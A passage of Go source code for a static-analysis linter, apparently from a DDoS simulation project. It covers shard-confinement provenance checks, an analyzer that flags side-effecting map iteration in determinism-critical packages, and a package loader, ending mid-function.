				old.recv = true
				changed = true
			}
			for i := range sum.params {
				if !old.params[i] {
					old.params[i] = true
					changed = true
				}
			}
		}
		if !changed {
			break
		}
	}
}

// baseVar walks an expression chain (selectors, indexes, derefs,
// method calls on the chain) down to its base identifier's variable.
func (eng *confEngine) baseVar(u *confUnit, e ast.Expr) *types.Var {
	for {
		switch x := ast.Unparen(e).(type) {
		case *ast.Ident:
			v, _ := objVar(u.pkg, x)
			return v
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		case *ast.TypeAssertExpr:
			e = x.X
		case *ast.UnaryExpr:
			if x.Op != token.AND {
				return nil
			}
			e = x.X
		case *ast.CallExpr:
			if recv := callReceiver(x); recv != nil {
				e = recv
				continue
			}
			return nil
		default:
			return nil
		}
	}
}

// srcRef names a mutation source within a unit: the receiver, a
// parameter, or nothing trackable.
type srcRef struct {
	recv  bool
	param int // -1 when not a parameter
}

// summarizeUnit scans one declared function for mutations of its
// receiver/parameter subtrees, using current summaries for calls.
func (eng *confEngine) summarizeUnit(u *confUnit) *mutSummary {
	sum := &mutSummary{params: make(map[int]bool)}
	// aliases: locals assigned directly from a receiver/param chain.
	aliases := make(map[*types.Var]srcRef)
	source := func(e ast.Expr) (srcRef, bool) {
		v := eng.baseVar(u, e)
		if v == nil {
			return srcRef{}, false
		}
		if u.recv != nil && v == u.recv {
			return srcRef{recv: true, param: -1}, true
		}
		for i := 0; i < u.sig.Params().Len(); i++ {
			if u.sig.Params().At(i) == v {
				return srcRef{param: i}, true
			}
		}
		if ref, ok := aliases[v]; ok {
			return ref, true
		}
		return srcRef{}, false
	}
	mark := func(ref srcRef) {
		if ref.recv {
			sum.recv = true
		} else if ref.param >= 0 {
			sum.params[ref.param] = true
		}
	}
	// Two passes so aliases established later in the body still
	// resolve (good enough without a full dataflow).
	for pass := 0; pass < 2; pass++ {
		ast.Inspect(u.body, func(n ast.Node) bool {
			if lit, ok := n.(*ast.FuncLit); ok && lit != u.lit {
				return false
			}
			switch n := n.(type) {
			case *ast.AssignStmt:
				if n.Tok == token.DEFINE && len(n.Lhs) == len(n.Rhs) {
					for i, lhs := range n.Lhs {
						id, ok := lhs.(*ast.Ident)
						if !ok || id.Name == "_" {
							continue
						}
						v, _ := u.pkg.Info.Defs[id].(*types.Var)
						if v == nil {
							continue
						}
						if ref, ok := source(n.Rhs[i]); ok {
							aliases[v] = ref
						}
					}
				}
				for _, lhs := range n.Lhs {
					if isIdentName(lhs, "_") {
						continue
					}
					if owner, ok := mutationOwner(lhs); ok {
						if ref, ok := source(owner); ok {
							mark(ref)
						}
					}
				}
			case *ast.IncDecStmt:
				if owner, ok := mutationOwner(n.X); ok {
					if ref, ok := source(owner); ok {
						mark(ref)
					}
				}
			case *ast.CallExpr:
				if isBuiltinDelete(n) && len(n.Args) > 0 {
					if ref, ok := source(n.Args[0]); ok {
						mark(ref)
					}
					return true
				}
				fn := eng.funcFor(u.pkg, n)
				if fn == nil {
					return true
				}
				if eng.isMutatingCall(fn) {
					if recvExpr := callReceiver(n); recvExpr != nil {
						if ref, ok := source(recvExpr); ok {
							mark(ref)
						}
					}
				}
				for i, arg := range n.Args {
					if eng.mutatesParam(fn, i) {
						if ref, ok := source(arg); ok {
							mark(ref)
						}
					}
				}
			}
			return true
		})
	}
	return sum
}

// isMutatingCall reports whether fn mutates its receiver subtree,
// from a derived summary, a seed, or — for interface methods — any
// implementing method of the run.
func (eng *confEngine) isMutatingCall(fn *types.Func) bool {
	if eng.cfg.Mutators[funcKey(fn)] {
		return true
	}
	if sum := eng.summaries[fn]; sum != nil && sum.recv {
		return true
	}
	if sig, ok := fn.Type().(*types.Signature); ok && sig.Recv() != nil {
		if _, isIface := sig.Recv().Type().Underlying().(*types.Interface); isIface {
			for _, u := range eng.resolve(fn) {
				if u.fn != nil {
					if eng.cfg.Mutators[funcKey(u.fn)] {
						return true
					}
					if s := eng.summaries[u.fn]; s != nil && s.recv {
						return true
					}
				}
			}
		}
	}
	return false
}

func (eng *confEngine) mutatesParam(fn *types.Func, i int) bool {
	if sum := eng.summaries[fn]; sum != nil && sum.params[i] {
		return true
	}
	return false
}

// ---- provenance classification ---------------------------------------

// isPartitionType reports whether t (deref'd) is partition-owned.
func (eng *confEngine) isPartitionType(t types.Type) bool {
	t = deref(t)
	if named, ok := t.(*types.Named); ok {
		if named.Obj().Pkg() == nil {
			return false
		}
		key := named.Obj().Pkg().Path() + "." + named.Obj().Name()
		if eng.cfg.PartitionTypes[key] || eng.cfg.PartitionPkgs[named.Obj().Pkg().Path()] {
			return true
		}
	}
	if iface, ok := t.Underlying().(*types.Interface); ok {
		return eng.partitionIface(iface)
	}
	return false
}

// isTrackedType reports whether t (deref'd) is on the reported
// race-surface set.
func (eng *confEngine) isTrackedType(t types.Type) bool {
	if t == nil {
		return false
	}
	t = deref(t)
	if named, ok := t.(*types.Named); ok && named.Obj().Pkg() != nil {
		if eng.cfg.TrackedTypes[named.Obj().Pkg().Path()+"."+named.Obj().Name()] {
			return true
		}
	}
	if iface, ok := t.Underlying().(*types.Interface); ok {
		return eng.trackedIface(iface)
	}
	return false
}

func (eng *confEngine) partitionIface(iface *types.Interface) bool {
	if v, ok := eng.partIface[iface]; ok {
		return v
	}
	eng.partIface[iface] = false // break recursion
	v := false
	for _, named := range eng.namedTypes {
		if implementsIface(named, iface) && eng.isPartitionType(named) {
			v = true
			break
		}
	}
	eng.partIface[iface] = v
	return v
}

func (eng *confEngine) trackedIface(iface *types.Interface) bool {
	if v, ok := eng.trackIface[iface]; ok {
		return v
	}
	eng.trackIface[iface] = false
	v := false
	for _, named := range eng.namedTypes {
		if implementsIface(named, iface) && eng.isTrackedType(named) {
			v = true
			break
		}
	}
	eng.trackIface[iface] = v
	return v
}

func deref(t types.Type) types.Type {
	if p, ok := t.(*types.Pointer); ok {
		return p.Elem()
	}
	return t
}

// unitBase is the provenance of anything a unit conjures locally
// (literals, composites, free-call results). Partition-package code
// is axiomatically shard-local — it runs on the shard that owns its
// state, and only the seeded crossings leave it — so its baseline is
// in-partition; control-plane code starts outside every partition.
func (eng *confEngine) unitBase(u *confUnit) prov {
	return ownProv(eng.cfg.PartitionPkgs[u.pkg.Path])
}

// step applies the partition-transition rule: moving from a chain
// with provenance base into a value of type stepT.
func (eng *confEngine) step(base prov, stepT types.Type, via string) prov {
	if base.kind != provOwn {
		return base // foreign/global/unknown propagate
	}
	if stepT != nil && eng.isPartitionType(stepT) {
		if base.inPartition {
			return ownProv(true)
		}
		return prov{kind: provStep, ft: stepT, via: via}
	}
	return base
}

// classify computes the provenance of an expression chain within a
// reachable unit.
func (eng *confEngine) classify(u *confUnit, e ast.Expr) prov {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		return eng.classifyIdent(u, e)
	case *ast.SelectorExpr:
		// Method value or qualified identifier?
		if obj := u.pkg.Info.Uses[e.Sel]; obj != nil {
			if v, ok := obj.(*types.Var); ok && !v.IsField() {
				// pkg.Var qualified reference.
				return eng.classifyVarObj(u, v)
			}
		}
		base := eng.classify(u, e.X)
		return eng.step(base, u.pkg.Info.TypeOf(e), e.Sel.Name)
	case *ast.IndexExpr:
		base := eng.classify(u, e.X)
		return eng.step(base, u.pkg.Info.TypeOf(e), "index")
	case *ast.StarExpr:
		return eng.classify(u, e.X)
	case *ast.CallExpr:
		fn := eng.funcFor(u.pkg, e)
		if fn != nil {
			if eng.cfg.Crossings[funcKey(fn)] {
				return prov{kind: provCrossing, ft: resultType(fn, 0), via: funcKey(fn)}
			}
			if recvExpr := callReceiver(e); recvExpr != nil {
				base := eng.classify(u, recvExpr)
				return eng.step(base, u.pkg.Info.TypeOf(e), fn.Name()+"()")
			}
			// Free function: the result carries the unit's baseline
			// provenance (shard-local in partition code; in control-
			// plane code a partition-typed result is opaque).
			if !eng.isPartitionType(u.pkg.Info.TypeOf(e)) {
				return eng.unitBase(u)
			}
			if eng.unitBase(u).inPartition {
				return ownProv(true)
			}
			return prov{kind: provUnknown}
		}
		if !eng.isPartitionType(u.pkg.Info.TypeOf(e)) {
			return eng.unitBase(u)
		}
		if eng.unitBase(u).inPartition {
			return ownProv(true)
		}
		return prov{kind: provUnknown}
	case *ast.TypeAssertExpr:
		return eng.classify(u, e.X)
	case *ast.UnaryExpr:
		if e.Op == token.AND {
			return eng.classify(u, e.X)
		}
	}
	// Literals, composites, arithmetic: the unit's baseline.
	return eng.unitBase(u)
}

// classifyIdent resolves an identifier's provenance: receiver, param,
// local, captured, or package-level.
func (eng *confEngine) classifyIdent(u *confUnit, id *ast.Ident) prov {
	obj := u.pkg.Info.Uses[id]
	if obj == nil {
		obj = u.pkg.Info.Defs[id]
	}
	v, ok := obj.(*types.Var)
	if !ok {
		return eng.unitBase(u)
	}
	return eng.classifyVarObj(u, v)
}

func (eng *confEngine) classifyVarObj(u *confUnit, v *types.Var) prov {
	if isPkgLevel(v) {
		return prov{kind: provGlobal, via: v.Name()}
	}
	// Receiver of this unit or an enclosing unit: own.
	for cur := u; cur != nil; cur = cur.encl {
		if cur.recv != nil && v == cur.recv {
			return ownProv(eng.isPartitionType(v.Type()) || eng.unitBase(u).inPartition)
		}
	}
	// Parameter of this unit or an enclosing one.
	for cur := u; cur != nil; cur = cur.encl {
		for i := 0; i < cur.sig.Params().Len(); i++ {
			if cur.sig.Params().At(i) != v {
				continue
			}
			if !eng.isPartitionType(v.Type()) {
				return eng.unitBase(u)
			}
			if eng.cfg.PartitionPkgs[u.pkg.Path] {
				// Shard-local code trusts its parameters: co-located
				// callers hand it shard-local state, and a control-
				// plane caller passing foreign state is reported at
				// its own call site via the mutation summaries.
				return ownProv(true)
			}
			if recvT := eng.unitRecvType(cur); recvT != nil && eng.isPartitionType(recvT) {
				// Partition infrastructure passing shard-local peers
				// around (Node.handleReceive(in *NetDevice, …)).
				return ownProv(true)
			}
			p := prov{kind: provParam, ft: v.Type(), via: v.Name()}
			if cur != u {
				p.kind = provCaptured
			}
			return p
		}
	}
	// Local of this unit, or captured from an enclosing unit.
	owner := eng.declaringUnit(u, v)
	if owner == nil {
		return prov{kind: provUnknown}
	}
	p := eng.varProv(owner, v)
	if owner != u && p.foreign() {
		// Foreign state entering through a capture is shardconfine's
		// business regardless of how the enclosing frame got it.
		p.kind = provCaptured
	}
	return p
}

// unitRecvType reports the receiver type of u or its nearest
// enclosing method, or nil.
func (eng *confEngine) unitRecvType(u *confUnit) types.Type {
	for cur := u; cur != nil; cur = cur.encl {
		if cur.recv != nil {
			return cur.recv.Type()
		}
	}
	return nil
}

// declaringUnit finds the unit (u or an enclosing one) whose body
// lexically contains v's declaration.
func (eng *confEngine) declaringUnit(u *confUnit, v *types.Var) *confUnit {
	for cur := u; cur != nil; cur = cur.encl {
		if v.Pos() >= cur.body.Pos() && v.Pos() < cur.body.End() {
			// Exclude positions inside a *nested* literal of cur: the
			// innermost containing unit wins, and we walk outward from
			// u, so the first hit is correct for captured variables.
			return cur
		}
	}
	return nil
}

// varProv computes (memoized) the provenance of a local variable from
// every assignment feeding it; foreign sources dominate.
func (eng *confEngine) varProv(u *confUnit, v *types.Var) prov {
	if p, ok := eng.varMemo[v]; ok {
		return p
	}
	eng.varMemo[v] = prov{kind: provUnknown} // cycle guard
	sources := eng.unitAssigns(u)[v]
	result := eng.unitBase(u)
	known := false
	for _, src := range sources {
		var p prov
		if src.ranged {
			base := eng.classify(src.unit, src.expr)
			p = eng.step(base, rangeElemType(src.unit.pkg, src.expr), "range")
		} else if src.resIdx >= 0 {
			call, ok := ast.Unparen(src.expr).(*ast.CallExpr)
			if !ok {
				continue
			}
			fn := eng.funcFor(src.unit.pkg, call)
			base := eng.classify(src.unit, src.expr)
			var rt types.Type
			if fn != nil {
				rt = resultType(fn, src.resIdx)
			}
			p = eng.step(base, rt, "call")
		} else {
			p = eng.classify(src.unit, src.expr)
		}
		known = true
		if p.foreign() || p.kind == provGlobal {
			result = p
			break
		}
		if p.kind == provOwn && p.inPartition {
			result = p
		}
	}
	if !known && len(sources) == 0 {
		// No recorded assignment (e.g. named result, loop var of a
		// non-range loop): stay at the unit's baseline.
		result = eng.unitBase(u)
	}
	eng.varMemo[v] = result
	return result
}

// unitAssigns builds (lazily) the assignment index for a unit.
func (eng *confEngine) unitAssigns(u *confUnit) map[*types.Var][]provSource {
	if m, ok := eng.assigns[u]; ok {
		return m
	}
	m := make(map[*types.Var][]provSource)
	record := func(id *ast.Ident, src provSource) {
		if id == nil || id.Name == "_" {
			return
		}
		v, _ := u.pkg.Info.Defs[id].(*types.Var)
		if v == nil {
			v, _ = u.pkg.Info.Uses[id].(*types.Var)
		}
		if v == nil {
			return
		}
		m[v] = append(m[v], src)
	}
	ast.Inspect(u.body, func(n ast.Node) bool {
		if lit, ok := n.(*ast.FuncLit); ok && lit != u.lit {
			return false
		}
		switch n := n.(type) {
		case *ast.AssignStmt:
			if len(n.Lhs) == len(n.Rhs) {
				for i, lhs := range n.Lhs {
					if id, ok := lhs.(*ast.Ident); ok {
						record(id, provSource{expr: n.Rhs[i], resIdx: -1, unit: u})
					}
				}
			} else if len(n.Rhs) == 1 {
				for i, lhs := range n.Lhs {
					if id, ok := lhs.(*ast.Ident); ok {
						record(id, provSource{expr: n.Rhs[0], resIdx: i, unit: u})
					}
				}
			}
		case *ast.RangeStmt:
			if id, ok := n.Value.(*ast.Ident); ok {
				record(id, provSource{expr: n.X, ranged: true, resIdx: -1, unit: u})
			}
		}
		return true
	})
	eng.assigns[u] = m
	return m
}

// ---- reporting -------------------------------------------------------

// reportUnit walks one reachable unit's body (excluding nested
// literals) and emits findings and inventory entries.
func (eng *confEngine) reportUnit(u *confUnit) {
	seen := make(map[string]bool)
	barrier := u.inBarrier()
	emit := func(analyzer string, pos token.Pos, subject, detail, msg string) {
		key := fmt.Sprintf("%d/%s/%s", pos, analyzer, msg)
		if seen[key] {
			return
		}
		seen[key] = true
		if barrier {
			// Sanctioned barrier idiom: the mutation happens with every
			// shard worker parked. Inventory it for the audit trail,
			// keep the analyzer that would have fired, don't report.
			eng.addInventory(u, pos, analyzer, "barrier", subject, detail)
			return
		}
		eng.findings[u.pkg] = append(eng.findings[u.pkg], confFinding{analyzer: analyzer, pos: pos, msg: msg})
		eng.addInventory(u, pos, analyzer, "violation", subject, detail)
	}
	checkMutation := func(owner ast.Expr, pos token.Pos, what string) {
		p := eng.classify(u, owner)
		switch {
		case p.kind == provGlobal:
			emit("shardconfine", pos, p.via, what, fmt.Sprintf(
				"handler code %s package-level state %q; no partition owns it under a sharded kernel (reached via %s)",
				what, p.via, u.chain()))
		case p.foreign() && eng.isTrackedType(p.ft):
			subject := typeStr(p.ft)
			switch p.kind {
			case provCrossing:
				emit("crossnode", pos, subject, what, fmt.Sprintf(
					"handler obtains %s via %s and %s it directly; cross-partition effects must use the message path (reached via %s)",
					subject, p.via, what, u.chain()))
			case provStep:
				emit("crossnode", pos, subject, what, fmt.Sprintf(
					"handler reaches from control-plane state into %s and %s it directly; cross-partition effects must use the message path (reached via %s)",
					subject, what, u.chain()))
			case provCaptured:
				emit("shardconfine", pos, subject, what, fmt.Sprintf(
					"handler %s captured foreign %s; state outside the handler's partition must be reached through the message path (reached via %s)",
					what, subject, u.chain()))
			case provParam:
				emit("shardconfine", pos, subject, what, fmt.Sprintf(
					"handler %s foreign %s received as parameter %q; state outside the handler's partition must be reached through the message path (reached via %s)",
					what, subject, p.via, u.chain()))
			}
		}
	}
	ast.Inspect(u.body, func(n ast.Node) bool {
		if lit, ok := n.(*ast.FuncLit); ok && lit != u.lit {
			return false
		}
		switch n := n.(type) {
		case *ast.AssignStmt:
			for _, lhs := range n.Lhs {
				if isIdentName(lhs, "_") {
					continue
				}
				if n.Tok == token.DEFINE {
					continue
				}
				if owner, ok := mutationOwner(lhs); ok {
					checkMutation(owner, lhs.Pos(), "writes")
				} else if id, ok := ast.Unparen(lhs).(*ast.Ident); ok {
					// Direct store to a variable: only interesting when
					// the variable itself is package-level.
					if v, ok := objVar(u.pkg, id); ok && isPkgLevel(v) {
						checkMutation(id, lhs.Pos(), "writes")
					}
				}
			}
		case *ast.IncDecStmt:
			if owner, ok := mutationOwner(n.X); ok {
				checkMutation(owner, n.X.Pos(), "writes")
			} else if id, ok := ast.Unparen(n.X).(*ast.Ident); ok {
				if v, ok := objVar(u.pkg, id); ok && isPkgLevel(v) {
					checkMutation(id, n.X.Pos(), "writes")
				}
			}
		case *ast.CallExpr:
			if isBuiltinDelete(n) && len(n.Args) > 0 {
				checkMutation(n.Args[0], n.Pos(), "mutates")
				return true
			}
			fn := eng.funcFor(u.pkg, n)
			if fn == nil {
				return true
			}
			if eng.cfg.Boundaries[funcKey(fn)] {
				subject := ""
				if recvExpr := callReceiver(n); recvExpr != nil {
					subject = typeStr(u.pkg.Info.TypeOf(recvExpr))
				}
				eng.addInventory(u, n.Pos(), "", "boundary", subject, funcKey(fn))
				return true
			}
			if eng.isMutatingCall(fn) {
				if recvExpr := callReceiver(n); recvExpr != nil {
					checkMutation(recvExpr, n.Pos(), "mutates")
				}
			}
			for i, arg := range n.Args {
				if eng.mutatesParam(fn, i) {
					checkMutation(arg, arg.Pos(), "mutates")
				}
			}
		}
		return true
	})
}

// ---- small helpers ---------------------------------------------------

// mutationOwner extracts the chain whose owner a write mutates:
// x.f = …, x[i] = …, *x = … all mutate the state behind x. A bare
// identifier has no owner chain (handled separately for globals).
func mutationOwner(lhs ast.Expr) (ast.Expr, bool) {
	switch lhs := ast.Unparen(lhs).(type) {
	case *ast.SelectorExpr:
		return lhs.X, true
	case *ast.IndexExpr:
		return lhs.X, true
	case *ast.StarExpr:
		return lhs.X, true
	}
	return nil, false
}

// callReceiver extracts the receiver expression of a method call.
func callReceiver(call *ast.CallExpr) ast.Expr {
	if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok {
		return sel.X
	}
	return nil
}

func isBuiltinDelete(call *ast.CallExpr) bool {
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	return ok && id.Name == "delete"
}

func isIdentName(e ast.Expr, name string) bool {
	id, ok := ast.Unparen(e).(*ast.Ident)
	return ok && id.Name == name
}

func objVar(pkg *Package, id *ast.Ident) (*types.Var, bool) {
	obj := pkg.Info.Uses[id]
	if obj == nil {
		obj = pkg.Info.Defs[id]
	}
	v, ok := obj.(*types.Var)
	return v, ok
}

// isPkgLevel reports whether v is a package-level variable.
func isPkgLevel(v *types.Var) bool {
	return v != nil && !v.IsField() && v.Pkg() != nil && v.Parent() == v.Pkg().Scope()
}

// resultType reports result i of fn's signature, or nil.
func resultType(fn *types.Func, i int) types.Type {
	sig, ok := fn.Type().(*types.Signature)
	if !ok || i >= sig.Results().Len() {
		return nil
	}
	return sig.Results().At(i).Type()
}

// rangeElemType reports the element type produced by ranging over e.
func rangeElemType(pkg *Package, e ast.Expr) types.Type {
	t := pkg.Info.TypeOf(e)
	if t == nil {
		return nil
	}
	switch t := t.Underlying().(type) {
	case *types.Slice:
		return t.Elem()
	case *types.Array:
		return t.Elem()
	case *types.Map:
		return t.Elem()
	case *types.Pointer:
		if arr, ok := t.Elem().Underlying().(*types.Array); ok {
			return arr.Elem()
		}
	case *types.Chan:
		return t.Elem()
	}
	return nil
}

func typeStr(t types.Type) string {
	if t == nil {
		return "<unknown>"
	}
	return types.TypeString(t, func(p *types.Package) string { return p.Name() })
}
