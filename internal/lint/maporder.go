package lint

import (
	"bytes"
	"go/ast"
	"go/printer"
	"go/token"
	"go/types"
)

// MapOrder flags `range` over map-typed expressions whose loop body
// has side effects, inside the determinism-critical packages. Map
// iteration order is randomized per run, so any observable work done
// per iteration — a call that schedules events or draws from the
// shared RNG, a send, an append into an outer slice — executes in a
// different order every run and breaks same-seed reproducibility.
//
// Order-independent loops (pure reductions, collect-then-sort) carry
// a //simlint:allow maporder(reason) annotation instead.
type MapOrder struct {
	// CriticalPkgs matches the final import-path segment of packages
	// whose event ordering feeds the deterministic kernel.
	CriticalPkgs map[string]bool
}

// NewMapOrder returns the analyzer covering the packages on the
// simulation's hot path.
func NewMapOrder() *MapOrder {
	return &MapOrder{CriticalPkgs: map[string]bool{
		"sim": true, "netsim": true, "mirai": true, "churn": true,
		"core": true, "container": true, "attacker": true, "epidemic": true,
	}}
}

func (m *MapOrder) Name() string { return "maporder" }

func (m *MapOrder) Doc() string {
	return "forbid side-effecting range over maps in determinism-critical packages"
}

func (m *MapOrder) Run(pass *Pass) {
	if !m.CriticalPkgs[pathBase(pass.Pkg.Path)] {
		return
	}
	for _, file := range pass.Pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			rs, ok := n.(*ast.RangeStmt)
			if !ok {
				return true
			}
			t := pass.TypeOf(rs.X)
			if t == nil {
				return true
			}
			if _, isMap := t.Underlying().(*types.Map); !isMap {
				return true
			}
			if reason := firstSideEffect(pass, rs); reason != "" {
				pass.Reportf(m.Name(), rs.For,
					"range over map %s %s per iteration; map order is randomized — iterate sorted keys, or annotate //simlint:allow maporder(reason) if provably order-independent",
					exprString(pass, rs.X), reason)
			}
			return true
		})
	}
}

// firstSideEffect scans a map-range body and describes the first
// order-sensitive operation found, or returns "". Function literals
// are not descended into: defining a closure has no effect until it
// is called, and the call site is what gets flagged.
func firstSideEffect(pass *Pass, rs *ast.RangeStmt) string {
	var reason string
	ast.Inspect(rs.Body, func(n ast.Node) bool {
		if reason != "" {
			return false
		}
		switch n := n.(type) {
		case *ast.FuncLit:
			return false
		case *ast.SendStmt:
			reason = "sends on a channel"
			return false
		case *ast.UnaryExpr:
			if n.Op == token.ARROW {
				reason = "receives from a channel"
				return false
			}
		case *ast.GoStmt:
			reason = "spawns a goroutine"
			return false
		case *ast.DeferStmt:
			reason = "defers a call"
			return false
		case *ast.AssignStmt:
			for _, rhs := range n.Rhs {
				call, ok := ast.Unparen(rhs).(*ast.CallExpr)
				if ok && isBuiltin(pass, call, "append") && assignsOutside(pass, n.Lhs, rs) {
					reason = "appends to outer scope"
					return false
				}
			}
		case *ast.CallExpr:
			if r := callEffect(pass, n); r != "" {
				reason = r
				return false
			}
		}
		return true
	})
	return reason
}

// pureBuiltins never observe iteration order.
var pureBuiltins = map[string]bool{
	"len": true, "cap": true, "make": true, "new": true,
	"min": true, "max": true, "real": true, "imag": true, "complex": true,
	"append": true, // order sensitivity is judged at the assignment, not the call
}

func callEffect(pass *Pass, call *ast.CallExpr) string {
	fun := ast.Unparen(call.Fun)
	if id, ok := fun.(*ast.Ident); ok {
		if b, ok := pass.Pkg.Info.Uses[id].(*types.Builtin); ok {
			if pureBuiltins[b.Name()] {
				return ""
			}
			return "calls builtin " + b.Name()
		}
	}
	if tv, ok := pass.Pkg.Info.Types[fun]; ok && tv.IsType() {
		return "" // type conversion
	}
	if fn := pass.FuncFor(call); fn != nil {
		return "calls " + fn.Name()
	}
	return "calls a function value"
}

func isBuiltin(pass *Pass, call *ast.CallExpr, name string) bool {
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	if !ok {
		return false
	}
	b, ok := pass.Pkg.Info.Uses[id].(*types.Builtin)
	return ok && b.Name() == name
}

// assignsOutside reports whether any assignment target resolves to
// storage declared outside the range statement — an outer slice
// variable, a struct field, a map entry.
func assignsOutside(pass *Pass, lhs []ast.Expr, rs *ast.RangeStmt) bool {
	for _, l := range lhs {
		switch l := ast.Unparen(l).(type) {
		case *ast.Ident:
			obj := pass.Pkg.Info.Defs[l]
			if obj == nil {
				obj = pass.Pkg.Info.Uses[l]
			}
			if obj == nil || obj.Pos() < rs.Pos() || obj.Pos() > rs.End() {
				return true
			}
		default:
			// Selector or index expressions reach through to outer
			// storage by construction.
			return true
		}
	}
	return false
}

func exprString(pass *Pass, e ast.Expr) string {
	var buf bytes.Buffer
	if err := printer.Fprint(&buf, pass.Pkg.Fset, e); err != nil {
		return "?"
	}
	return buf.String()
}
