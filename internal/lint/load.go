package lint

import (
	"fmt"
	"go/ast"
	"go/build"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Package is one loaded, type-checked package.
type Package struct {
	// Path is the import path ("ddosim/internal/netsim").
	Path string
	// Dir is the absolute directory; Root the module root Dir sits
	// under (diagnostics are rendered relative to it).
	Dir  string
	Root string

	Fset  *token.FileSet
	Files []*ast.File
	Types *types.Package
	Info  *types.Info
}

// Loader parses and type-checks the module's packages using only the
// standard library: module-internal imports are resolved by loading
// the corresponding directory, standard-library imports through the
// go/importer source importer.
type Loader struct {
	Root   string // absolute module root (directory of go.mod)
	Module string // module path from go.mod

	fset    *token.FileSet
	std     types.Importer
	entries map[string]*loadEntry // by import path
}

type loadEntry struct {
	pkg     *Package
	err     error
	loading bool
}

// NewLoader builds a loader for the module rooted at root (any
// directory inside the module works; the loader walks up to go.mod).
func NewLoader(root string) (*Loader, error) {
	abs, err := filepath.Abs(root)
	if err != nil {
		return nil, err
	}
	modRoot, modPath, err := findModule(abs)
	if err != nil {
		return nil, err
	}
	// The source importer type-checks std from $GOROOT/src via
	// go/build; cgo variants of net/os cannot be type-checked from
	// source, so force the pure-Go build.
	build.Default.CgoEnabled = false
	fset := token.NewFileSet()
	return &Loader{
		Root:    modRoot,
		Module:  modPath,
		fset:    fset,
		std:     importer.ForCompiler(fset, "source", nil),
		entries: make(map[string]*loadEntry),
	}, nil
}

// findModule walks up from dir to the enclosing go.mod and extracts
// the module path.
func findModule(dir string) (root, module string, err error) {
	for d := dir; ; d = filepath.Dir(d) {
		data, err := os.ReadFile(filepath.Join(d, "go.mod"))
		if err == nil {
			for _, line := range strings.Split(string(data), "\n") {
				line = strings.TrimSpace(line)
				if rest, ok := strings.CutPrefix(line, "module "); ok {
					return d, strings.TrimSpace(rest), nil
				}
			}
			return "", "", fmt.Errorf("lint: %s/go.mod has no module line", d)
		}
		if filepath.Dir(d) == d {
			return "", "", fmt.Errorf("lint: no go.mod above %s", dir)
		}
	}
}

// Import implements types.Importer: module-internal paths load from
// the tree, everything else defers to the std source importer.
func (l *Loader) Import(path string) (*types.Package, error) {
	if path == l.Module || strings.HasPrefix(path, l.Module+"/") {
		pkg, err := l.load(path)
		if err != nil {
			return nil, err
		}
		return pkg.Types, nil
	}
	return l.std.Import(path)
}

// Load type-checks the package in dir (absolute, or relative to the
// module root).
func (l *Loader) Load(dir string) (*Package, error) {
	if !filepath.IsAbs(dir) {
		dir = filepath.Join(l.Root, dir)
	}
	rel, err := filepath.Rel(l.Root, dir)
	if err != nil || strings.HasPrefix(rel, "..") {
		return nil, fmt.Errorf("lint: %s is outside module root %s", dir, l.Root)
	}
	path := l.Module
	if rel != "." {
		path = l.Module + "/" + filepath.ToSlash(rel)
	}
	return l.load(path)
}

func (l *Loader) load(path string) (*Package, error) {
	if e, ok := l.entries[path]; ok {
		if e.loading {
			return nil, fmt.Errorf("lint: import cycle through %s", path)
		}
		return e.pkg, e.err
	}
	entry := &loadEntry{loading: true}
	l.entries[path] = entry
	pkg, err := l.typecheck(path)
	entry.pkg, entry.err, entry.loading = pkg, err, false
	return pkg, err
}

func (l *Loader) typecheck(path string) (*Package, error) {
	rel := strings.TrimPrefix(strings.TrimPrefix(path, l.Module), "/")
	dir := filepath.Join(l.Root, filepath.FromSlash(rel))
	names, err := goFileNames(dir)
	if err != nil {
		return nil, err
	}
	if len(names) == 0 {
		return nil, fmt.Errorf("lint: no Go files in %s", dir)
	}
	files := make([]*ast.File, 0, len(names))
	for _, name := range names {
		f, err := parser.ParseFile(l.fset, filepath.Join(dir, name), nil, parser.ParseComments)
		if err != nil {
			return nil, err
		}
		files = append(files, f)
	}
	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	conf := types.Config{Importer: l}
	tpkg, err := conf.Check(path, l.fset, files, info)
	if err != nil {
		return nil, fmt.Errorf("lint: typecheck %s: %w", path, err)
	}
	return &Package{
		Path:  path,
		Dir:   dir,
		Root:  l.Root,
		Fset:  l.fset,
		Files: files,
		Types: tpkg,
		Info:  info,
	}, nil
}

// goFileNames lists the non-test Go files of dir in sorted order,
// honouring build constraints under the default (no extra tags)
// configuration — so of a //go:build simdebug / !simdebug pair only
// the !simdebug file is loaded, exactly like `go build ./...` sees
// the tree. Test files are outside simlint's scope: they run off the
// simulated clock by nature and are covered by `go test -race`
// instead.
func goFileNames(dir string) ([]string, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var names []string
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") ||
			strings.HasSuffix(name, "_test.go") || strings.HasPrefix(name, ".") {
			continue
		}
		if ok, err := build.Default.MatchFile(dir, name); err != nil || !ok {
			continue
		}
		names = append(names, name)
	}
	sort.Strings(names)
	return names, nil
}

// LoadAll loads every package under sub (absolute, or relative to the
// module root; "" or "." for the whole module), skipping testdata,
// hidden, and VCS directories. Packages load in sorted path order so
// diagnostics and load errors are stable.
func (l *Loader) LoadAll(sub string) ([]*Package, error) {
	start := l.Root
	if filepath.IsAbs(sub) {
		start = sub
	} else if sub != "" && sub != "." {
		start = filepath.Join(l.Root, filepath.FromSlash(sub))
	}
	var dirs []string
	err := filepath.WalkDir(start, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			name := d.Name()
			if p != start && (name == "testdata" || strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
				return filepath.SkipDir
			}
			names, err := goFileNames(p)
			if err != nil {
				return err
			}
